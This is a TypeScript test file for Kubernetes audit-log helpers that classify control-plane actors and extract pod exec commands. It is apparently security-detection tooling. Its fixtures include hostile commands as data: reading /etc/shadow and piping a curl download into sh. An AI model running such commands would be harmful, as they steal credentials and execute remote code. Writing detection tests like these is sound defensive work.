import { test } from 'node:test';
import assert from 'node:assert/strict';
import { k8sExecCommand, k8sSystemActor } from './helpers.ts';

const actor = (uid: string, type = 'User'): unknown => ({ actor: { user: { uid, type } } });

test('k8sSystemActor: control-plane identities are the cluster machinery, people and workloads are not', () => {
  for (const uid of [
    'system:kube-controller-manager',
    'system:kube-scheduler',
    'system:apiserver',
    'system:node:ip-10-0-1-5.ec2.internal',
    'system:serviceaccount:kube-system:replicaset-controller',
    'eks:addon-manager',
    'aksService',
    'masterclient',
    'service-123456789012@container-engine-robot.iam.gserviceaccount.com',
  ]) {
    assert.equal(k8sSystemActor(actor(uid)), true, uid);
  }
  for (const uid of ['dev@example.com', 'kubernetes-admin', 'system:anonymous', 'system:serviceaccount:shop:web', 'clusterAdmin']) {
    assert.equal(k8sSystemActor(actor(uid)), false, uid);
  }
  assert.equal(k8sSystemActor(actor('whatever', 'System')), true, 'the collector type decides too');
  assert.equal(k8sSystemActor(null), false);
});

test('k8sExecCommand: the request body command, else the URL-decoded command= parameters', () => {
  assert.equal(k8sExecCommand({ unmapped: { requestObject: { command: ['cat', '/etc/shadow'] } } }), 'cat /etc/shadow');
  assert.equal(k8sExecCommand({ unmapped: { protoPayload: { request: { command: ['sh', '-c', 'id'] } } } }), 'sh -c id');
  assert.equal(
    k8sExecCommand({ unmapped: { requestURI: '/api/v1/namespaces/a/pods/b/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fy+%7C+sh&container=c&stdout=true' } }),
    'sh -c curl -s http://x/y | sh',
  );
  assert.equal(k8sExecCommand({ unmapped: { requestURI: '/api/v1/namespaces/a/pods/b/exec?command=%E0%A4%A&stdin=true' } }), '%E0%A4%A', 'a bad escape is kept as it is');
  assert.equal(k8sExecCommand({ unmapped: { requestURI: '/api/v1/namespaces/a/pods/b/exec?stdin=true' } }), '');
  assert.equal(k8sExecCommand({}), '');
});
